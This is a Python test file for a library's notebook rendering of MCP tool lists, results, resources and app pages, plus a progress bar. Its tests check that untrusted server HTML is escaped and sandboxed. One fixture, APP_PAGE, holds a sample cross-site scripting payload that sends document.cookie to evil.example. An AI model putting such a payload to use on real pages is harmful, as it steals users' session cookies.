"""Notebook rendering of results and the progress bar helper."""

from __future__ import annotations

import io

from mcpsync import CallToolResult, GetPromptResult, ProgressBar, ReadResourceResult, Tool, ToolList


def tools():
    return ToolList([
        Tool.from_dict({"name": "echo", "title": "Echo", "description": "Say <it> back",
                        "inputSchema": {"type": "object", "required": ["text"]}}),
        Tool.from_dict({"name": "add", "description": "a | b"}),
    ])


def test_a_tool_list_is_still_a_list_and_renders_as_a_table():
    listed = tools()
    assert isinstance(listed, list) and [t.name for t in listed] == ["echo", "add"]
    html = listed._repr_html_()
    assert "<table>" in html and "2 tools" in html and "<code>text</code>" in html
    assert "Say &lt;it&gt; back" in html  # server text is escaped, never markup
    markdown = listed._repr_markdown_()
    assert "| `echo` | Say <it> back | text |" in markdown and "a \\| b" in markdown


def test_a_tool_result_shows_text_structured_json_and_images():
    result = CallToolResult.from_dict({
        "content": [{"type": "text", "text": "<b>hi</b>"},
                    {"type": "image", "data": "iVBORw0KGgo=", "mimeType": "image/png"},
                    {"type": "image", "data": "x", "mimeType": "image/svg+xml"}],
        "structuredContent": {"sum": 3, "items": [1, 2]},
        "isError": True,
    })
    html = result._repr_html_()
    assert "&lt;b&gt;hi&lt;/b&gt;" in html
    assert "<img src='data:image/png;base64,iVBORw0KGgo='" in html
    assert "image/svg+xml" in html and "data:image/svg+xml" not in html  # no scriptable images
    assert "<details>" in html and "structured content" in html and "Tool error" in html


def test_resources_and_prompts_render():
    read = ReadResourceResult.from_dict({"contents": [{"uri": "demo://a", "text": "hello"},
                                                      {"uri": "demo://b", "blob": "AAAA", "mimeType": "x/y"}]})
    assert "hello" in read._repr_html_() and "[3 bytes]" in read._repr_html_()
    prompt = GetPromptResult.from_dict({"description": "greeting", "messages": [
        {"role": "user", "content": {"type": "text", "text": "Hello"}}]})
    assert "<b>user</b>" in prompt._repr_html_() and "Hello" in prompt._repr_html_()


def test_plain_repr_stays_short():
    result = CallToolResult.from_dict({"content": [{"type": "text", "text": "x" * 10_000}]})
    assert len(repr(result)) < 200


def test_the_progress_bar_draws_a_text_line_without_tqdm():
    out = io.StringIO()
    with ProgressBar("work", file=out, use_tqdm=False) as bar:
        bar(1, 4, "first")
        bar(4, 4, "done")
    assert bar.render() == "work [" + "#" * 30 + "] 4/4 done"
    assert out.getvalue().endswith("\n") and "1/4 first" in out.getvalue()


# -- MCP Apps, read side (issue 14) ----------------------------------------------------------------

APP_PAGE = "<h1 onclick='steal()'>Chart</h1><script>fetch('https://evil.example/' + document.cookie)</script>"


def test_a_tools_ui_resource_is_on_the_tool_and_its_page_shows_in_an_inert_frame():
    from mcpsync.testing import FakeServer

    server = FakeServer("apps")

    @server.tool(meta={"ui": {"resourceUri": "ui://apps/chart.html"}})
    def chart(n: int) -> str:
        return f"{n} bars"

    @server.tool
    def plain() -> str:
        return "no view"

    @server.resource("ui://apps/chart.html", mime_type="text/html;profile=mcp-app")
    def chart_page() -> str:
        return APP_PAGE

    with server.client() as client:
        tools = {tool.name: tool for tool in client.list_tools()}
        assert tools["chart"].ui_resource_uri == "ui://apps/chart.html"
        assert tools["plain"].ui_resource_uri is None
        page = client.read_resource(tools["chart"].ui_resource_uri)
    assert page.contents[0].mime_type == "text/html;profile=mcp-app" and page.text == APP_PAGE
    shown = page._repr_html_()
    assert "<iframe sandbox=''" in shown and "srcdoc='" in shown
    assert "<script" not in shown and "onclick='" not in shown  # the page is escaped into srcdoc
    assert "&lt;script&gt;" in shown


def test_the_older_flat_ui_key_and_odd_values_are_read_with_care():
    assert Tool.from_dict({"name": "t", "_meta": {"ui/resourceUri": "ui://x"}}).ui_resource_uri == "ui://x"
    assert Tool.from_dict({"name": "t", "_meta": {"ui": {"resourceUri": 7}}}).ui_resource_uri is None
    assert Tool.from_dict({"name": "t", "_meta": "nonsense"}).ui_resource_uri is None
    other = ReadResourceResult.from_dict({"contents": [{"uri": "ui://x", "mimeType": "text/html", "text": "<b>x</b>"}]})
    assert "<iframe" not in other._repr_html_() and "&lt;b&gt;" in other._repr_html_()  # plain HTML stays text
    spaced = ReadResourceResult.from_dict({"contents": [
        {"uri": "ui://x", "mimeType": "TEXT/HTML; charset=utf-8; Profile=MCP-App", "text": "<b>x</b>"}]})
    assert "<iframe sandbox=''" in spaced._repr_html_()
